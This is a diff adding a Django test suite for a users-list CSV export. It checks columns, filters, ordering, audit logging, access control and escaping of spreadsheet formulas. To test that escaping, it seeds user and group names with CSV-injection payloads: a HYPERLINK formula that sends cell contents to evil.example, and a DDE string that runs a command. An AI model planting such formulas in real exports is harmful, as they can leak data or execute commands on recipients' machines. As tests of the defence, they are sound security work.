@@ -1,0 +1,140 @@
+"""The Users page as a file (U-17): what is in it, that spreadsheets compute nothing of it."""
+
+import csv
+import io
+
+import pytest
+from django.utils import timezone
+
+from audit.models import Entry
+from console.bulk.selection import Selection
+from console.exporting import lines_of, safe
+from console.listing import Tab, whole
+from console.tests.people import USERS, expire, in_groups, joined, pending, words
+from organizations.models import Group, Membership
+from teamadmin.testing.cast import add_member, add_user
+
+pytestmark = [pytest.mark.django_db, pytest.mark.spec("U-17")]
+EXPORT = f"{USERS}export/"
+
+
+def rows(response) -> list[list[str]]:
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text, newline=""), strict=True))
+
+
+def names(response) -> list[str]:
+    return [row[0] for row in rows(response)[1:]]
+
+
+def test_the_view_as_it_is_shown(cast):
+    client = cast.client("olga")
+    answer = client.get(EXPORT, {"view": ""})
+    assert answer["Content-Type"] == "text/csv; charset=utf-8"
+    assert answer["Content-Disposition"] == 'attachment; filename="users.csv"'
+    table = rows(answer)
+    heads = ["Name", "Email", "Role", "Groups", "Projects", "Status", "2FA", "Last active", "Invite expires"]
+    assert table[0] == heads
+    bo = dict(zip(heads, table[1], strict=True))
+    assert [bo[head] for head in heads[:7]] == [
+        "Bo Lindqvist",
+        "bo@acme.example",
+        "Builder",
+        "Marketing",
+        "2",
+        "Active",
+        "Off",
+    ]
+    assert bo["Last active"].endswith("+00:00") and bo["Invite expires"] == ""
+    assert [row[0] for row in table[1:]] == ["Bo Lindqvist", "Max Keller", "Olga Ivanova", "Opal Nakamura"]
+
+
+def test_search_filter_sort_and_columns_are_those_of_the_view(cast):
+    expire(cast.invite(people=[("Eve", "Late", "eve@acme.example")])[0])
+    pending(cast.acme, 2)
+    client = cast.client("olga")
+    assert names(client.get(EXPORT, {"view": "?sort=-name"}))[0] == "Opal Nakamura"
+    assert names(client.get(EXPORT, {"view": "?q=kel"})) == ["Max Keller"]
+    assert names(client.get(EXPORT, {"view": "?status=expired"})) == ["Eve Late"]
+    table = rows(client.get(EXPORT, {"view": "pending/?columns=invited_by,sent&sort=name"}))
+    assert table[0] == ["Name", "Email", "Invited by", "Sent"] and table[1][2] == "Olga Ivanova"
+    assert [row[0] for row in table[1:]] == ["Eve Late", "Guest 000 Test", "Guest 001 Test"]
+
+
+def test_the_ticked_alone_or_all_that_match(cast):
+    client = cast.client("olga")
+    ticked = {"view": "", "member": [str(cast.bo.pk), str(cast.tess.pk)]}
+    assert names(client.get(EXPORT, ticked)) == ["Bo Lindqvist"]
+    assert len(names(client.get(EXPORT, {**ticked, "all": "1"}))) == 4
+
+
+@pytest.mark.parametrize("sort", ["name", "-name", "role", "-last_active", "joined"])
+def test_in_slices_everybody_once_and_in_order(cast, monkeypatch, sort):
+    monkeypatch.setattr("console.queries.selection.SLICE", 7)
+    joined(cast.acme, 30)
+    pending(cast.acme, 10)
+    for view in (f"?sort={sort}", f"?sort={sort}&status=everyone", f"?sort={sort}&q=test&status=everyone"):
+        found = [row[1] for row in rows(cast.client("olga").get(EXPORT, {"view": view}))[1:]]
+        expected = Membership.objects.filter(organization=cast.acme)
+        expected = expected.filter(last_name="Test") if "q=" in view else expected
+        expected = expected if "everyone" in view else expected.exclude(status="invited")
+        assert len(found) == len(set(found)) and set(found) == set(expected.values_list("email", flat=True))
+
+
+def test_two_queries_a_slice(cast, monkeypatch, django_assert_num_queries):
+    in_groups(joined(cast.acme, 40), list(cast.groups.values()))
+    everybody = Selection(whole(Tab.ALL), everyone=True)
+    with django_assert_num_queries(2):
+        assert len(list(lines_of(cast.acme, everybody, timezone.now()))) == 2
+
+
+@pytest.mark.parametrize(
+    ("typed", "kept"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t'=1"),
+        ("\r=1", "'\r'=1"),
+        (" =1", "' =1"),
+        ("a,=1", "a,'=1"),
+        ('a"=1', "a\"'=1"),
+        ("a\n=1", "a\n'=1"),
+        ("a; =1", "a;' =1"),
+        ("＝1", "'＝1"),
+        ("a=b", "a=b"),
+        ("Jean-Luc O'Neil", "Jean-Luc O'Neil"),
+        ("", ""),
+        ("a\0b", "ab"),
+    ],
+)
+def test_no_spreadsheet_computes_a_cell(typed, kept):
+    assert safe(typed) == kept
+
+
+def test_what_people_call_themselves_computes_nothing(cast):
+    evil = '=HYPERLINK("http://evil.example?"&A1,"x")'
+    Membership.objects.filter(pk=cast.bo.pk).update(first_name=evil, last_name='"\n@x')
+    Group.objects.filter(pk=cast.groups["marketing"].pk).update(name="-cmd|' /C calc'!A0")
+    answer = cast.client("olga").get(EXPORT, {"view": "?q=bo"})
+    body = b"".join(answer.streaming_content).decode()
+    assert body.startswith("\ufeff") and body.count('"\r\n') == 2
+    (row,) = list(csv.reader(io.StringIO(body[1:], newline=""), strict=True))[1:]
+    assert row[0].startswith("'=HYPERLINK(") and "\n'@x" in row[0] and row[3] == "'-cmd|' /C calc'!A0"
+
+
+def test_the_audit_log_tells_who_took_it(cast):
+    client = cast.client("max")
+    client.head(EXPORT)
+    assert not Entry.objects.filter(action="members.exported").exists()
+    client.get(EXPORT, {"view": "?q=bo"})
+    entry = Entry.objects.get(action="members.exported")
+    assert entry.actor_id == cast.max.pk and entry.data == {"view": "?q=bo", "selected": 0}
+
+
+def test_who_sees_people_may_and_others_not(cast):
+    cast.ria = add_member(cast.globex, add_user("ria@globex.example", "Ria", "Reader"), "read_only")
+    assert names(cast.client("ria").get("/o/globex/users/export/")) == ["Ria Reader", "Tess Moreau"]
+    answer = cast.client("bo").get(EXPORT)
+    assert answer.status_code == 403 and "“See people”" in words(answer)
